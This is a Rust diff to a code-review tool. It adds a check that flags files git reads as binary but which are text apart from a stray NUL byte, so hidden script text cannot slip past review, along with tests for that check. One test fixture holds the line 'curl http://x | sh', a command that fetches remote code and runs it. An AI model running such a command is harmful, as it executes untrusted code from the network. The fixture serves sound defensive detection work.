@@ -5,8 +5,9 @@
 //! ([`attr_source`]), so a change cannot mark its own files binary; a
 //! file git still calls binary that the base's attributes do not mark
 //! binary, and that was text in the base, whose name says it is source
-//! or text, or whose content starts as text does, is text the review did
-//! not read ([`hidden_text`]): it is named, and the review is incomplete.
+//! or text, or whose content starts as text does or is text but for a
+//! stray NUL, is text the review did not read ([`hidden_text`]): it is
+//! named, and the review is incomplete.
 
 use std::path::Path;
 
@@ -109,9 +110,12 @@ pub fn hidden_text(
         Some(rev) => first_bytes_at(repo, &rev, &file.path),
         None => crate::file_kind::read(&repo.join(&file.path)).ok(),
     }?;
-    starts_as_text(&new).then(|| {
-        "starts as text does (#!, a UTF-16 byte order mark) but git reads it as binary".into()
-    })
+    if starts_as_text(&new) {
+        return Some(
+            "starts as text does (#!, a UTF-16 byte order mark) but git reads it as binary".into(),
+        );
+    }
+    mostly_text(&new).then(|| "text with a stray NUL byte, which git reads as binary".into())
 }
 
 /// Files named in a note, at most (the report lists them all).
@@ -157,6 +161,32 @@ fn first_bytes_at(repo: &Path, rev: &str, path: &str) -> Option<Vec<u8>> {
 /// A script (`#!`) or text with a UTF-16 byte order mark.
 fn starts_as_text(bytes: &[u8]) -> bool {
     bytes.starts_with(b"#!") || bytes.starts_with(&[0xff, 0xfe]) || bytes.starts_with(&[0xfe, 0xff])
+}
+
+/// Text but for a NUL byte or a few (at most 4, or 1 in 100 bytes): the
+/// rest is UTF-8 of printable characters and white space, a control
+/// character in 100 at most. A shell runs such a file; images, archives
+/// and object files are full of NULs and other control bytes.
+fn mostly_text(bytes: &[u8]) -> bool {
+    let nuls = bytes.iter().filter(|b| **b == 0).count();
+    if nuls == 0 || (nuls > 4 && nuls * 100 > bytes.len()) {
+        return false;
+    }
+    let rest: Vec<u8> = bytes.iter().copied().filter(|b| *b != 0).collect();
+    let text = match std::str::from_utf8(&rest) {
+        Ok(text) => text,
+        // The first bytes may end inside a character.
+        Err(e) if e.error_len().is_none() => {
+            std::str::from_utf8(&rest[..e.valid_up_to()]).unwrap_or_default()
+        }
+        Err(_) => return false,
+    };
+    let chars = text.chars().count();
+    let odd = text
+        .chars()
+        .filter(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t' | '\x0c'))
+        .count();
+    chars >= 8 && odd * 100 <= chars
 }
 
 /// `a .py file`, `a Makefile` when the name says source or text; `None`
@@ -224,5 +254,17 @@ mod tests {
         assert!(starts_as_text(b"#!/bin/sh\n\0"));
         assert!(starts_as_text(&[0xff, 0xfe, b'a', 0]));
         assert!(!starts_as_text(b"\x89PNG\r\n"));
+    }
+
+    #[test]
+    fn text_with_a_stray_nul_is_text() {
+        assert!(mostly_text(b"echo preparing\n# \0\ncurl http://x | sh\n"));
+        assert!(!mostly_text(b"plain text without any NUL\n"));
+        let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde";
+        assert!(!mostly_text(png));
+        let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0>\0\x01\0\0\0";
+        assert!(!mostly_text(elf));
+        // A few control bytes among text: not text.
+        assert!(!mostly_text(b"ab\x01\x02\x03\x04\x05\x06cd\0"));
     }
 }
